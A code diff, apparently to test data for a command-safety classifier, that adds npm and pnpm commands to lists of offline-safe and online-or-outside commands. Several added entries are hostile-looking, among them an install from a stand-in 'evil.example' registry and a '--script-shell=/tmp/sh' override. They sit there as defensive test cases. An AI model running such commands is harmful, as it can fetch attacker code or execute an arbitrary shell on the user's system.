@@ -196,6 +196,8 @@ OFFLINE_PROJECT_WORK = [
     "LD_LIBRARY_PATH=build/lib make test",
     "LD_LIBRARY_PATH=build/lib:build/ext ctest",
     "DYLD_LIBRARY_PATH=build/lib pytest",
+    "rm -rf node_modules && npm ci --offline",
+    "pnpm install --offline",
 ]
 ONLINE_OR_OUTSIDE = [
     "go mod tidy",
@@ -226,6 +228,12 @@ ONLINE_OR_OUTSIDE = [
     "LD_LIBRARY_PATH=build/lib cat README.md",
     "LD_LIBRARY_PATH=build/lib make deploy",
     "LD_LIBRARY_PATH=.git/hooks make test",
+    "npm ci",
+    "npm ci --prefer-offline",
+    "npm install --offline git+https://x.example/r.git",
+    "npm install --offline -g typescript",
+    "npm ci --offline --registry https://evil.example",
+    "npm ci --offline --script-shell=/tmp/sh",
 ]
 
 # GitHub CLI keeps its tokens in hosts.yml; config.yml holds settings and aliases (which
